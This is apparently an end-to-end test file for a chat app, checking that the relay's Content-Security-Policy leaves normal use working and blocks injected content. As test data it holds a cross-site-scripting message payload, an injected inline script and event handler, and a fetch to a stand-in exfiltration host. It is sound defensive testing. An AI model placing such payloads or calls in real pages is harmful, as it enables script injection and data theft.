/**
 * The app under the relay's Content-Security-Policy in real Chromium: creating
 * a workspace, a chat and a message (worker, WebAssembly crypto, WebSocket,
 * service worker) raises no violation, and script injected into the page
 * (an inline script, an inline handler) or a request to another host is
 * blocked and reported.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorkspace, newChat, openDevice, send, transcript, waitConnected, type Device } from './harness/app-driver.ts';
import { ensureAppBuilt } from './harness/build-app.ts';
import { launchChromium } from './harness/chromium.ts';
import { startRelay, type Relay } from './harness/relay.ts';

interface Violation {
  directive: string;
  blocked: string;
}

/** The CSP violations the page has reported so far (recorded by an init script, which CSP does not govern). */
const violations = (page: Page): Promise<Violation[]> => page.evaluate(() => (window as unknown as { __csp: Violation[] }).__csp);

describe('the app under its Content-Security-Policy', { timeout: 180_000 }, () => {
  let dataDir: string;
  let relay: Relay;
  let browser: Browser;
  let a: Device;

  beforeAll(async () => {
    await ensureAppBuilt();
    dataDir = mkdtempSync(join(tmpdir(), 'tendril-e2e-'));
    relay = await startRelay(dataDir);
    browser = await launchChromium();
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    await context.addInitScript(() => {
      const w = window as unknown as { __csp: Violation[] };
      w.__csp = [];
      window.addEventListener('securitypolicyviolation', (e) => w.__csp.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    });
    a = await openDevice(context, relay.url, 'Desktop');
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await relay?.kill();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it('serves the page with the policy and works under it: workspace, chat, message, reload', async () => {
    const res = await a.page.request.get(relay.url);
    expect(res.headers()['content-security-policy']).toMatch(/script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
    await createWorkspace(a, 'Policy');
    await newChat(a, 'Under CSP');
    await send(a, 'hello <img src=x onerror="window.__pwned=1"> **bold**');
    expect((await transcript(a)).at(-1)).toContain('<img src=x onerror="window.__pwned=1">');
    await a.page.reload();
    await waitConnected(a);
    expect(await violations(a.page)).toEqual([]);
    expect(await a.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });

  it('blocks an injected inline script, an inline event handler and a request to another host', async () => {
    await a.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__ran = "script"';
      document.body.append(s);
      const host = document.createElement('div');
      host.innerHTML = '<img src="/icon.svg" onload="window.__ran = \'handler\'">';
      document.body.append(host);
      void fetch('http://exfil.example.com/x').catch(() => undefined);
    });
    await a.page.waitForFunction(() => (window as unknown as { __csp: Violation[] }).__csp.length >= 3);
    const seen = await violations(a.page);
    expect(seen.filter((v) => v.directive === 'script-src-elem' && v.blocked === 'inline')).toHaveLength(1);
    expect(seen.filter((v) => v.directive === 'script-src-attr' && v.blocked === 'inline')).toHaveLength(1);
    expect(seen.filter((v) => v.directive === 'connect-src' && v.blocked.startsWith('http://exfil.example.com'))).toHaveLength(1);
    expect(await a.page.evaluate(() => (window as unknown as { __ran?: string }).__ran)).toBeUndefined();
  });
});
